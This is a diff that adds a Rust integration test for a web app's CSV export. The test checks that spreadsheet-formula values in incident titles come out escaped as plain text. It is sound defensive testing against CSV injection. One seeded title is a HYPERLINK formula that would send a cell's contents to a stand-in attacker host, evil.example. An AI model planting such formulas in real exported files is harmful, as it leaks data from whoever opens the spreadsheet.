@@ -176,3 +176,46 @@ async fn the_csv_export_reads_as_the_table_shows_it() {
     );
     assert!(html.contains("01/09/2025 12:00"), "{html}");
 }
+
+/// Issue 15 §4: a title (or any field) a spreadsheet would evaluate is written as text.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_formula_typed_in_a_field_is_plain_text_in_the_csv() {
+    let app = spawn_app(test_database().await).await;
+    seed(&app).await;
+    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Détails\")";
+    for (id, title) in [
+        (1, formula),
+        (2, "@SUM(1+1)"),
+        (3, "+33 6 12"),
+        (4, "\tTAB"),
+    ] {
+        sqlx::query("UPDATE incidents SET title = $2 WHERE id = $1")
+            .bind(id as i64)
+            .bind(title)
+            .execute(&app.pool)
+            .await
+            .unwrap();
+    }
+    let browser = app
+        .signed_in_browser("qa@taskflow.example", "Quentin QA", &["qa"])
+        .await;
+    let res = browser.get(&app, "/history/rollbacks.csv").await;
+    assert_eq!(res.status(), 200);
+    let bytes = res.bytes().await.unwrap();
+    let mut reader = csv::Reader::from_reader(&bytes[3..]);
+    let titles: std::collections::HashMap<String, String> = reader
+        .records()
+        .map(|r| r.unwrap())
+        .map(|r| (r[0].to_owned(), r[1].to_owned()))
+        .collect();
+    assert_eq!(titles["1"], format!("'{formula}"));
+    assert_eq!(titles["2"], "'@SUM(1+1)");
+    assert_eq!(titles["3"], "'+33 6 12");
+    assert_eq!(titles["4"], "'\tTAB");
+    assert!(
+        titles
+            .values()
+            .all(|t| !t.starts_with(['=', '+', '-', '@', '\t', '\r'])),
+        "{titles:?}"
+    );
+}
